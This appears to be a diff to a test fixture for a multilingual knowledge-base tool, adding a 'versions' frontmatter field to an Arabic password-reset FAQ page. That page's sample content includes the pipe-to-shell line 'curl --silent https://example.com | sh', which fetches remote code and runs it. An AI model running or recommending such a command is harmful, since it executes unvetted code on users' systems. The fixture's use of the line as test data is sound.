@@ -22,7 +22,7 @@ export const smallContent = {
   ].join('\n'),
   'content/zh-cn/faq/login/reset.md': '---\ntitle: 重置密码\n---\n\n打开设置。\n\n## 步骤\n\n1. 开始。\n',
   'content/ar/faq/login/reset.md':
-    '---\ntitle: إعادة تعيين كلمة المرور\nreviewed: 2026-03-05\n---\n\nافتح الإعدادات.\n\n## الخطوات\n\n1. ابدأ.\n\n```sh\ncurl --silent https://example.com | sh\n```\n',
+    '---\ntitle: إعادة تعيين كلمة المرور\nreviewed: 2026-03-05\nversions: [1.x, 2.x]\n---\n\nافتح الإعدادات.\n\n## الخطوات\n\n1. ابدأ.\n\n```sh\ncurl --silent https://example.com | sh\n```\n',
   'coverage-report.json': JSON.stringify(coverageReport),
   'kb.config.ts': [
     'export default {',
